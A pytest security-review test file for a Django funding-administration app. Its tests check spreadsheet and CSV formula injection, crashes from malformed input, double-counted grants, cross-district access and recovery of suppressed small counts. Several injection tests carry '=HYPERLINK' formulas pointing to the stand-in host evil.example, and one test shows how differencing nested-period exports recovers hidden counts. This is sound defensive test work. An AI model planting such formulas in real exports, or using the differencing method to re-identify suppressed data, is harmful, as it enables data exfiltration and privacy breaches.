"""Security review of issue 5 (funding control, proof of use, controlling export, status report).

The ``test_bug_*`` tests each prove a bug found in review (they fail until it is fixed); the
``test_guard_*`` tests cover suspicions that turned out fine and are kept as regression guards of
a security property. The world is the root ``conftest.py``'s (``_funding_world``: per tenant a
programme of the current year with the default flat rates, a 1.00 FTE case-management position
at Träger A from 1 January, a payment call, a base rate, a claim and a proof of use whose staff
line has 55,000.00 planned and 60,000.00 actual costs)."""

from __future__ import annotations

import datetime
import io
import itertools
import json
from decimal import Decimal
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lotse.audit.models import AuditEvent
from lotse.cases.services import cases as case_services
from lotse.funding.models import (
    FundingProgramme,
    FundingRate,
    PaymentCall,
    Position,
    ProofOfUse,
    RepaymentClaim,
    StaffCostLine,
)
from lotse.tenants.models import Provider, Role
from lotse.tenants.tests.factories import ProviderFactory

pytestmark = pytest.mark.django_db

FC, CO = Role.FUNDING_CLERK, Role.COORDINATOR
BIG = "9" * 30  # beyond 64 bits
MAX_MONEY = "9999999999.99"  # the largest amount a money column (max_digits 12) holds
D = Decimal


def u(world: Any, name: str, tenant: str = "wesel", **kwargs: Any) -> str:
    return reverse(name, kwargs={"tenant": getattr(world, tenant).tenant.slug, **kwargs})


def state_url(world: Any, name: str) -> str:
    return reverse(name, kwargs={"tenant": world.state.slug})


def client(signed_in: Any, user: Any) -> Client:
    """A signed-in client with English pages that answers a crash with a 500 (not an exception)."""
    c: Client = signed_in(user)
    c.raise_request_exception = False
    c.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return c


def year_of(world: Any) -> int:
    return int(world.wesel.objects["programme"].starts_on.year)


def open_cases(w: Any, provider: Any, count: int, day: datetime.date) -> None:
    for number in range(count):
        case_services.case_open(
            actor=w.users[Role.CASE_MANAGER],
            tenant=w.tenant,
            case_manager_id=None,
            provider=provider,
            pseudonym=f"Fall {provider.pk}-{day.isoformat()}-{number}",
            intake_channel="walk_in",
            opened_on=day,
        )


def controlling_json(c: Client, world: Any, start: str, end: str) -> dict[str, Any] | None:
    response = c.get(
        state_url(world, "reports:controlling_export"), {"format": "json", "date_from": start, "date_to": end}
    )
    if response.status_code != 200:
        return None
    return json.loads(response.content)  # type: ignore[no-any-return]


def table_rows(document: dict[str, Any], section: str, group: str) -> dict[str, list[Any]]:
    for part in document["sections"]:
        if part["title"] == section:
            for table in part["tables"]:
                if table["group"] == group:
                    return {row["label"]: row["cells"] for row in table["rows"]}
    raise AssertionError(f"no table {group} in section {section}")


def formula_cells(content: bytes, marker: str) -> list[str]:
    """Coordinates of the cells of a workbook that are formulas containing ``marker``."""
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and marker in str(cell.value):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value}")
    return found


# === 1. Spreadsheet and CSV injection =============================================================


def test_bug_proof_xlsx_turns_entered_text_into_formulas(world, signed_in):
    """lotse/funding/proof_xlsx.py (``_Sheet.put`` line 63, header line 127, activity report
    line 145, staff row label line 212): texts entered by users – the activity report, the
    provider's name (tenant admin), the position's person and the programme's name (funding
    clerk) – are written with openpyxl as plain values; a text starting with "=" becomes a live
    FORMULA in the Verwendungsnachweis (=HYPERLINK(...) exfiltration / DDE in the grantor's
    spreadsheet program)."""
    w = world.wesel
    proof = w.objects["proof"]
    Provider.objects.filter(pk=w.provider.pk).update(name='=HYPERLINK("https://evil.example/p","Träger")')
    FundingProgramme.objects.filter(pk=w.objects["programme"].pk).update(name='=HYPERLINK("https://evil.example/g")')
    Position.objects.filter(pk=w.objects["position"].pk).update(person='=HYPERLINK("https://evil.example/n")')
    ProofOfUse.objects.filter(pk=proof.pk).update(activity_report='=HYPERLINK("https://evil.example/a","Bericht")')
    response = client(signed_in, w.users[FC]).get(u(world, "funding:proof_xlsx", pk=proof.pk))
    assert response.status_code == 200
    assert formula_cells(response.content, "evil.example") == []


def test_bug_controlling_xlsx_turns_a_provider_name_into_a_formula(world, signed_in):
    """lotse/reports/controlling_export.py:132 (``sheet.append([row.label, *row.cells])``): a
    provider name set by a district's tenant admin that starts with "=" becomes a FORMULA in the
    state analyst's workbook – one district can plant formulas in the state's export."""
    w = world.coesfeld
    Provider.objects.filter(pk=w.provider.pk).update(name='=HYPERLINK("https://evil.example/x","Träger A")')
    response = client(signed_in, world.analyst).get(state_url(world, "reports:controlling_export"), {"format": "xlsx"})
    assert response.status_code == 200
    assert formula_cells(response.content, "evil.example") == []


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_bug_controlling_csv_writes_formula_text_unescaped(world, signed_in, sign):
    """lotse/reports/controlling_export.py:158-180 (``render_csv``): provider names (and district
    names) are written as they are; a cell starting with = + - @ is evaluated as a formula when
    the CSV is opened in a spreadsheet program (CSV injection, OWASP). Such cells need a leading
    apostrophe (or another neutralisation)."""
    w = world.coesfeld
    name = f'{sign}HYPERLINK("https://evil.example/x")'
    Provider.objects.filter(pk=w.provider.pk).update(name=name)
    response = client(signed_in, world.analyst).get(state_url(world, "reports:controlling_export"), {"format": "csv"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(";")]
    dangerous = [cell for cell in cells if "evil.example" in cell and cell[:1] in "=+-@"]
    assert dangerous == []


# === 2. Bad input -> 500 ==========================================================================


def test_bug_programme_in_year_9999_breaks_every_proof_page(world, signed_in):
    """lotse/funding/forms.py ProgrammeForm / services._check_programme accept any date, so a
    programme (and a proof) may end on 31.12.9999; lotse/funding/proof.py:525 then computes the
    repayment date with calc.add_months (calc.py:168-172) -> ValueError "year 10000 is out of
    range" -> 500 on the proof's detail page, PDF and XLSX (for good: the proof cannot be shown
    any more). The rates of such years even break FundingRate.year's own validators
    (2000-2100). Fix: limit programme dates (e.g. to the years 2000-2100) in form and service."""
    w = world.wesel
    c = client(signed_in, w.users[FC])
    c.post(
        u(world, "funding:programme_create"),
        {
            "name": "Fernes Programm",
            "starts_on": "9999-01-01",
            "ends_on": "9999-12-31",
            "month_rule": "any_day",
            "repayment_months": "1",
            "interest_points": "5",
        },
    )
    programme = FundingProgramme.objects.filter(tenant=w.tenant, name="Fernes Programm").first()
    if programme is None:
        return  # refused with a message: fine
    c.post(
        u(world, "funding:position_create"),
        {
            "provider": w.other_provider.pk,
            "programme": programme.pk,
            "position_type": "case_manager",
            "fte": "1",
            "starts_on": "9999-01-01",
        },
    )
    response = c.post(u(world, "funding:proof_create"), {"programme": programme.pk, "provider": w.other_provider.pk})
    assert response.status_code < 500
    proof = ProofOfUse.objects.filter(programme=programme).first()
    if proof is None:
        return
    for name in ("proof_detail", "proof_pdf", "proof_xlsx"):
        assert c.get(u(world, f"funding:{name}", pk=proof.pk)).status_code < 500, name


def test_bug_grant_above_the_money_column_breaks_the_proof(world, signed_in):
    """lotse/funding/services_proof.py:175 (proof_create): the planned total of a staff line
    is the computed grant (FTE x flat rate), stored unchecked in a max_digits=12 column. A rate of
    9,999,999,999.99 (accepted by the rates form) and 2 FTE give 19,999,999,999.98: PostgreSQL
    refuses the INSERT (DataError -> 500), SQLite stores it and every later read of the line
    raises decimal.InvalidOperation -> 500 on the proof's detail, edit, PDF and XLSX pages.
    Fix: check the grant with check_money before storing (message on the form), or bound rate x
    FTE."""
    w = world.wesel
    c = client(signed_in, w.users[FC])
    programme = w.objects["programme"]
    year = year_of(world)
    rates = {"version": programme.version}
    for position_type, amount in (("case_manager", MAX_MONEY), ("coordinator", "55000"), ("admin_assistant", "22500")):
        rates[f"rate_{year}_{position_type}"] = amount
    assert c.post(u(world, "funding:programme_rates", pk=programme.pk), rates).status_code < 500
    c.post(
        u(world, "funding:position_create"),
        {
            "provider": w.other_provider.pk,
            "programme": programme.pk,
            "position_type": "case_manager",
            "fte": "2",
            "starts_on": programme.starts_on.isoformat(),
        },
    )
    response = c.post(u(world, "funding:proof_create"), {"programme": programme.pk, "provider": w.other_provider.pk})
    assert response.status_code < 500
    proof = ProofOfUse.objects.filter(programme=programme, provider=w.other_provider).first()
    if proof is None:
        return  # refused with a message: fine
    for name in ("proof_detail", "proof_edit", "proof_pdf", "proof_xlsx"):
        assert c.get(u(world, f"funding:{name}", pk=proof.pk)).status_code < 500, name


def test_bug_repayment_claim_above_the_money_column_breaks_claim_list_and_overview(world, signed_in):
    """lotse/funding/services_proof.py:277 (proof_claim_create): the claim amount is the
    settled Minderausgaben = paid - grant, where "paid" sums any number of payment calls (each
    up to 9,999,999,999.99); it is stored unchecked in RepaymentClaim.amount (max_digits 12).
    Two received calls of 9,999,999,999.99 give a claim of 19,999,944,999.98: PostgreSQL: 500 on
    the claim; SQLite: stored, and then the claim list and the funding overview of the whole
    district answer 500 (decimal.InvalidOperation while reading the claim). Fix: check_money on
    the amount (a message instead of a claim)."""
    w = world.wesel
    c = client(signed_in, w.users[FC])
    programme = w.objects["programme"]
    year = year_of(world)
    for month in (3, 4):
        day = datetime.date(year, month, 1).isoformat()
        c.post(
            u(world, "funding:payment_create"),
            {
                "programme": programme.pk,
                "provider": w.provider.pk,
                "due_on": day,
                "planned_amount": MAX_MONEY,
                "received_on": day,
                "received_amount": MAX_MONEY,
            },
        )
    assert PaymentCall.objects.filter(tenant=w.tenant, received_amount=D(MAX_MONEY)).count() == 2
    response = c.post(u(world, "funding:proof_claim", pk=w.objects["proof"].pk), {"confirm": "1"})
    assert response.status_code < 500
    assert c.get(u(world, "funding:claim_list")).status_code < 500
    assert c.get(u(world, "funding:overview")).status_code < 500


# === 3. Money =====================================================================================


def test_bug_position_moved_after_its_proof_is_counted_twice_in_the_consolidated_proof(world, signed_in):
    """lotse/funding/services.py:263/308 (_check_position / position_update): the provider (and
    programme) of a position that is part of a proof of use can still be changed. Träger A's
    proof keeps the line, and a proof of Träger B for the same period picks the position up
    again (services_proof._active_positions), so the consolidated proof counts the same 1.00 FTE
    twice: state grant 110,000.00 instead of 55,000.00. Fix: refuse changing provider, programme
    (and type) of a position referenced by a StaffCostLine (like position_delete does)."""
    w = world.wesel
    c = client(signed_in, w.users[FC])
    position, programme = w.objects["position"], w.objects["programme"]
    c.post(
        u(world, "funding:position_edit", pk=position.pk),
        {
            "version": position.version,
            "provider": w.other_provider.pk,
            "programme": programme.pk,
            "position_type": "case_manager",
            "fte": "1.00",
            "starts_on": position.starts_on.isoformat(),
            "additional_staff": "on",
        },
    )
    c.post(u(world, "funding:proof_create"), {"programme": programme.pk, "provider": w.other_provider.pk})
    response = c.get(
        u(world, "funding:proof_consolidated"),
        {
            "programme": programme.pk,
            "period_start": programme.starts_on.isoformat(),
            "period_end": programme.ends_on.isoformat(),
        },
    )
    assert response.status_code == 200
    statement = response.context["st"]
    assert statement.staff_fte == D("1.00")
    assert statement.grant_planned == D("55000.00")


# === 4. Small cells ===============================================================================


def _hidden_values_free(rows: dict[str, list[Any]], total_label: str) -> dict[tuple[str, int], set[int]]:
    """Every value each suppressed cell of a cases table (opened, active, closed per provider, the
    last row the total) can take, given what is shown and what the export states itself: the
    legend ("< 5" = 1-4, "x" >= 5, "." anything), the columns adding up to the total row, and the
    definitions printed with the table (a case opened or closed in the period is active in it:
    opened <= active, closed <= active)."""
    totals = rows[total_label]
    providers = [label for label in rows if label != total_label]
    bound = 60  # far above every count of the scenario

    def candidates(sign: Any) -> range:
        if isinstance(sign, int):
            return range(sign, sign + 1)
        return range(1, 5) if sign == "< 5" else range(5, bound) if sign == "x" else range(0, bound)

    per_column: list[list[dict[str, int]]] = []
    for column, total_sign in enumerate(totals):
        hidden = [p for p in providers if not isinstance(rows[p][column], int)]
        shown = sum(rows[p][column] for p in providers if isinstance(rows[p][column], int))
        domains = [candidates(rows[p][column]) for p in hidden]
        per_column.append(
            [
                dict(zip(hidden, combo, strict=True))
                for total in candidates(total_sign)
                for combo in itertools.product(*domains)
                if shown + sum(combo) == total
            ]
        )
    free: dict[tuple[str, int], set[int]] = {}
    for combo in itertools.product(*per_column):

        def value(p: str, column: int) -> int:
            return combo[column].get(p, rows[p][column])  # noqa: B023

        if all(value(p, 0) <= value(p, 1) and value(p, 2) <= value(p, 1) for p in providers):
            for column in range(3):
                for p in combo[column]:
                    free.setdefault((p, column), set()).add(value(p, column))
    return free


def test_controlling_suppression_knows_its_own_definitions(world, signed_in):
    """lotse/reports/controlling.py (_group_lines / GROUPS "cases") with
    lotse/reports/suppression.py: the line system knows only "columns add up to the total", but
    the export states its definitions too – every case opened (or closed) in the period is
    active in it, so opened <= active and closed <= active per provider (likewise every life
    domain count <= active). Träger A: 8 opened in March (all active), Träger B: 1 case opened
    in February, still open, Träger C: 9 opened. The export shows A opened 8, A active "x",
    B active "< 5", C active 9, total active 18 -> A active >= 8 and A = 18 - 9 - B <= 8, so
    A = 8 and B's active count is 1: a suppressed value 1-4 recovered by the state analyst.
    Fix: add these relations to the checked system (or suppress the related cells together)."""
    w = world.wesel
    third = ProviderFactory(tenant=w.tenant, name="Kreis Wesel Träger C")
    open_cases(w, w.provider, 8, datetime.date(2025, 3, 10))
    open_cases(w, w.other_provider, 1, datetime.date(2024, 2, 1))  # active in 2025, opened before
    open_cases(w, third, 9, datetime.date(2025, 3, 10))
    # the state export covers whole calendar years (see test_bug_controlling_small_count_…)
    document = controlling_json(client(signed_in, world.analyst), world, "2025-01-01", "2025-12-31")
    assert document is not None
    rows = table_rows(document, w.tenant.name, "cases")
    free = _hidden_values_free(rows, "Gesamt")
    forced = {cell: values for cell, values in free.items() if len(values) == 1}
    assert forced == {}


def test_bug_controlling_small_count_recovered_from_two_periods(world, signed_in):
    """lotse/reports/forms.py (PeriodForm) / lotse/reports/controlling.py (build): the state
    analyst may export any period, and each export is suppressed on its own. Träger A of Kreis
    Wesel opened 8 cases on 10 March 2025 and 2 on 1 April 2025 (Träger B 8 in March). An
    export of April alone shows A's opened as "< 5", but March (8) and 1 March - 1 April (10),
    or the first quarter (8) and the first half-year (10), are shown exactly: 10 - 8 = 2 cases
    opened at Träger A in April. Differencing two exports of nested periods recovers any
    suppressed count. Fix (a design decision for the lead): fixed reporting periods that never
    nest (e.g. calendar years only), or suppression linked across the periods offered."""
    w = world.wesel
    open_cases(w, w.provider, 8, datetime.date(2025, 3, 10))
    open_cases(w, w.provider, 2, datetime.date(2025, 4, 1))
    open_cases(w, w.other_provider, 8, datetime.date(2025, 3, 10))
    analyst = client(signed_in, world.analyst)
    label = w.provider.name
    april = controlling_json(analyst, world, "2025-04-01", "2025-04-30")
    if april is not None:
        assert table_rows(april, w.tenant.name, "cases")[label][0] == "< 5"  # suppressed on its own
    periods = [
        ("2025-03-01", "2025-03-31"),
        ("2025-03-01", "2025-04-01"),
        ("2025-03-01", "2025-04-30"),
        ("2025-01-01", "2025-03-31"),
        ("2025-01-01", "2025-06-30"),
    ]
    opened: dict[tuple[str, str], Any] = {}
    for start, end in periods:
        document = controlling_json(analyst, world, start, end)
        if document is not None:
            opened[(start, end)] = table_rows(document, w.tenant.name, "cases")[label][0]
    recovered = [
        (shorter, longer, opened[longer] - opened[shorter])
        for shorter, longer in itertools.permutations(opened, 2)
        if shorter[0] == longer[0] and shorter[1] < longer[1]
        if isinstance(opened[shorter], int) and isinstance(opened[longer], int)
        if 1 <= opened[longer] - opened[shorter] <= 4
    ]
    assert recovered == []


def test_status_report_shows_district_totals_but_protects_breakdowns(world, signed_in):
    """Decision (docs/security.md): the committee status report is the district's own report to
    its council, like the council documents of the seeds; it prints the district's totals as
    they are (1 case opened, 1 referral), but its breakdowns by provider and by agency never
    show a value from 1 to 4 – the single agency's referral is "< 5"."""
    w = world.wesel
    today = datetime.date.today()
    start = today - datetime.timedelta(days=60)
    response = client(signed_in, w.users[CO]).get(
        u(world, "reports:status"), {"date_from": start.isoformat(), "date_to": today.isoformat()}
    )
    assert response.status_code == 200
    report = response.context["report"]
    tables = {table.id: table for section in report.sections for table in section.tables}
    small = {"1", "2", "3", "4", 1, 2, 3, 4}
    agency_rows = tables["referrals-agency"].rows
    assert agency_rows, "the world's referral is listed by agency"
    assert [cell for row in agency_rows for cell in row[1:] if cell in small] == []
    key_figures = [cell for row in tables["cases-key"].rows for cell in row[1:]]
    assert any(str(cell) == "1" for cell in key_figures)  # the district total, shown as it is


# === 5. Regression guards (passed in review) ======================================================

OBJECT_ROUTES = [
    ("funding:programme_edit", "programme", "get"),
    ("funding:programme_rates", "programme", "get"),
    ("funding:position_edit", "position", "get"),
    ("funding:position_delete", "position", "post"),
    ("funding:payment_edit", "payment", "get"),
    ("funding:payment_delete", "payment", "post"),
    ("funding:base_rate_delete", "base_rate", "post"),
    ("funding:claim_detail", "claim", "get"),
    ("funding:claim_edit", "claim", "get"),
    ("funding:proof_detail", "proof", "get"),
    ("funding:proof_edit", "proof", "get"),
    ("funding:proof_claim", "proof", "post"),
    ("funding:proof_delete", "proof", "post"),
    ("funding:proof_pdf", "proof", "get"),
    ("funding:proof_xlsx", "proof", "get"),
]


@pytest.mark.parametrize(("name", "key", "method"), OBJECT_ROUTES)
def test_guard_records_of_another_district_are_404(world, signed_in, name, key, method):
    """Guard: every record id of Kreis Coesfeld is unknown (404) under Kreis Wesel's URLs, also
    for destructive POSTs with confirm=1; nothing of Coesfeld changes."""
    foreign = world.coesfeld.objects[key]
    c = client(signed_in, world.wesel.users[FC])
    target = u(world, name, pk=foreign.pk)
    response = c.get(target) if method == "get" else c.post(target, {"confirm": "1"})
    assert response.status_code == 404
    assert type(foreign).objects.filter(pk=foreign.pk).exists()
    assert RepaymentClaim.objects.filter(proof=world.coesfeld.objects["proof"]).count() == 0


def test_guard_foreign_provider_or_programme_in_posted_forms_is_refused(world, signed_in):
    """Guard: a provider or programme id of another district in the create forms (position,
    payment call, repayment claim, proof of use) is refused; nothing is created."""
    w, other = world.wesel, world.coesfeld
    c = client(signed_in, w.users[FC])
    year = year_of(world)
    before = (Position.objects.count(), PaymentCall.objects.count(), RepaymentClaim.objects.count())
    proofs = ProofOfUse.objects.count()
    for provider, programme in ((other.provider, w.objects["programme"]), (w.provider, other.objects["programme"])):
        for name, data in (
            ("position_create", {"position_type": "case_manager", "fte": "1", "starts_on": f"{year}-02-01"}),
            ("payment_create", {"due_on": f"{year}-05-01", "planned_amount": "100"}),
            (
                "claim_create",
                {"reason": "x", "amount": "100", "due_on": f"{year}-05-01", "interest_from": f"{year}-05-02"},
            ),
            ("proof_create", {}),
        ):
            response = c.post(u(world, f"funding:{name}"), {"provider": provider.pk, "programme": programme.pk, **data})
            assert response.status_code == 200, name  # the form again, with its error
    assert (Position.objects.count(), PaymentCall.objects.count(), RepaymentClaim.objects.count()) == before
    assert ProofOfUse.objects.count() == proofs


def test_guard_staff_line_of_another_proof_in_the_proof_form_is_ignored(world, signed_in):
    """Guard: the proof edit form builds its staff fields from the proof's own lines only; a
    posted ``staff_<id>`` of Kreis Coesfeld's proof changes nothing there."""
    w = world.wesel
    proof = w.objects["proof"]
    own = StaffCostLine.objects.get(proof=proof)
    foreign = StaffCostLine.objects.get(proof=world.coesfeld.objects["proof"])
    data = {"version": proof.version, f"staff_{own.pk}": "60000", f"staff_{foreign.pk}": "1"}
    for name in ("third_party_planned", "third_party_actual", "public_grant_planned", "public_grant_actual"):
        data[name] = "0"
    for category in ("workplace", "office", "other"):
        for column in ("planned_total", "planned_eligible", "actual_total", "actual_eligible"):
            data[f"material_{category}_{column}"] = "0"
    response = client(signed_in, w.users[FC]).post(u(world, "funding:proof_edit", pk=proof.pk), data)
    assert response.status_code == 302  # saved
    foreign.refresh_from_db()
    assert foreign.actual_total == D("60000.00")


def test_guard_coordinator_cannot_pick_another_district_in_reports(world, signed_in):
    """Guard: the ``tenant`` parameter of the report period form is dropped for coordinators:
    the export of Kreis Wesel's coordinator names Kreis Wesel only, whatever is asked."""
    c = client(signed_in, world.wesel.users[CO])
    response = c.get(
        u(world, "reports:controlling_export"), {"format": "json", "tenant": str(world.coesfeld.tenant.pk)}
    )
    assert response.status_code == 200
    document = json.loads(response.content)
    assert [section["title"] for section in document["sections"]] == [world.wesel.tenant.name]
    assert world.coesfeld.tenant.name not in response.content.decode()


def test_guard_funding_clerk_sees_no_case_data_in_the_proof(world, signed_in):
    """Guard: the proof of use (page, consolidated page, PDF text, XLSX) shows the funding
    clerk counts of the case data only – no case number, pseudonym, identity, goal, barrier or
    theme text."""
    w = world.wesel
    programme, proof = w.objects["programme"], w.objects["proof"]
    c = client(signed_in, w.users[FC])
    query = {
        "programme": programme.pk,
        "period_start": proof.period_start.isoformat(),
        "period_end": proof.period_end.isoformat(),
    }
    pages = [
        c.get(u(world, "funding:proof_detail", pk=proof.pk)).content.decode(),
        c.get(u(world, "funding:proof_consolidated"), query).content.decode(),
    ]
    book = load_workbook(io.BytesIO(c.get(u(world, "funding:proof_xlsx", pk=proof.pk)).content))
    pages.append(" ".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row))
    secrets = [
        w.case.number,
        w.case.pseudonym,
        "Amina",
        "Testfall",
        "Arbeitsstelle finden",
        "Wartezeit Integrationskurs",
        "Wartezeiten Integrationskurs",
    ]
    leaks = [(index, secret) for index, page in enumerate(pages) for secret in secrets if secret in page]
    assert leaks == []


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("payment_create", {"planned_amount": "NaN"}),
        ("payment_create", {"planned_amount": "Infinity"}),
        ("payment_create", {"planned_amount": "1e400"}),
        ("payment_create", {"planned_amount": "99999999999999999999"}),
        ("position_create", {"fte": "-1"}),
        ("position_create", {"fte": "1e400"}),
        ("claim_create", {"amount": "NaN", "interest_from": "0001-01-01"}),
    ],
)
def test_guard_bad_numbers_are_refused_on_the_form(world, signed_in, name, data):
    """Guard: NaN, Infinity, 1e400, amounts beyond 12 digits and negative FTE are refused with a
    message (200, the form again), never a 500, and nothing is created."""
    w = world.wesel
    year = year_of(world)
    base = {
        "provider": w.provider.pk,
        "programme": w.objects["programme"].pk,
        "position_type": "case_manager",
        "fte": "1",
        "starts_on": f"{year}-02-01",
        "due_on": f"{year}-05-01",
        "planned_amount": "100",
        "reason": "x",
        "amount": "100",
        "interest_from": f"{year}-05-02",
    }
    counts = (Position.objects.count(), PaymentCall.objects.count(), RepaymentClaim.objects.count())
    response = client(signed_in, w.users[FC]).post(u(world, f"funding:{name}"), {**base, **data})
    assert response.status_code == 200
    assert (Position.objects.count(), PaymentCall.objects.count(), RepaymentClaim.objects.count()) == counts


@pytest.mark.parametrize(
    ("name", "query"),
    [
        (
            "funding:proof_consolidated_xlsx",
            {"programme": BIG, "period_start": "0001-01-01", "period_end": "9999-12-31"},
        ),
        ("funding:proof_consolidated", {"programme": "1e400", "period_start": "x", "period_end": "31.12.2026"}),
        ("funding:proof_consolidated", "programme=%FF%FE&period_start=%C0%AF&period_end=2026-12-31"),
        ("funding:claim_detail", "until=%FF%FE%FD%FC%FB%FA%F9%F8%F7%F6"),
        ("funding:position_list", {"provider": BIG, "programme": BIG, "year": BIG}),
        ("funding:payment_list", {"provider": "-1", "programme": BIG}),
        ("reports:controlling_export", {"format": "csv", "date_from": "1900-01-01", "date_to": "2999-12-31"}),
        ("reports:controlling", {"date_from": "2000-01-01", "date_to": "2099-12-31"}),
        ("reports:status_pdf", {"date_from": "0001-01-01", "date_to": "9999-12-31"}),
    ],
)
def test_guard_malformed_query_parameters_are_no_500(world, signed_in, name, query):
    """Guard: malformed GET parameters of the lists, downloads and report pages (ids beyond 64
    bits, dates out of range, a period of 100 years, bytes that are not UTF-8) answer with a
    message, not a 500."""
    role = FC if name.startswith("funding:") else CO
    c = client(signed_in, world.wesel.users[role])
    kwargs = {"pk": world.wesel.objects["claim"].pk} if name == "funding:claim_detail" else {}
    if isinstance(query, str):  # raw bytes, not UTF-8
        response = c.get(f"{u(world, name, **kwargs)}?{query}")
    else:
        response = c.get(u(world, name, **kwargs), query)
    assert response.status_code in (200, 302, 400)


def test_guard_stale_rates_table_does_not_overwrite(world, signed_in):
    """Guard: the flat-rate table is saved all-or-nothing under the programme's version; a second
    editor with the old version gets the conflict and changes nothing."""
    w = world.wesel
    programme = w.objects["programme"]
    year = year_of(world)
    c = client(signed_in, w.users[FC])
    old = programme.version

    def rates(amount: str) -> dict[str, Any]:
        return {
            "version": old,
            f"rate_{year}_case_manager": amount,
            f"rate_{year}_coordinator": "55000",
            f"rate_{year}_admin_assistant": "22500",
        }

    assert c.post(u(world, "funding:programme_rates", pk=programme.pk), rates("56000")).status_code == 302
    assert c.post(u(world, "funding:programme_rates", pk=programme.pk), rates("57000")).status_code == 200
    rate = FundingRate.objects.get(programme=programme, year=year, position_type="case_manager")
    assert rate.annual_amount == D("56000.00")


def test_guard_position_audit_names_no_person(world, signed_in):
    """Guard: creating and editing a position writes audit events without the post holder's name."""
    w = world.wesel
    programme = w.objects["programme"]
    year = year_of(world)
    c = client(signed_in, w.users[FC])
    response = c.post(
        u(world, "funding:position_create"),
        {
            "provider": w.provider.pk,
            "programme": programme.pk,
            "position_type": "coordinator",
            "fte": "0.5",
            "starts_on": f"{year}-03-01",
            "person": "Erika Musterfrau",
        },
    )
    assert response.status_code == 302
    events = AuditEvent.objects.filter(tenant=w.tenant, action__startswith="funding.position")
    assert events.exists()
    assert not [event.pk for event in events if "Musterfrau" in json.dumps(event.details, default=str)]
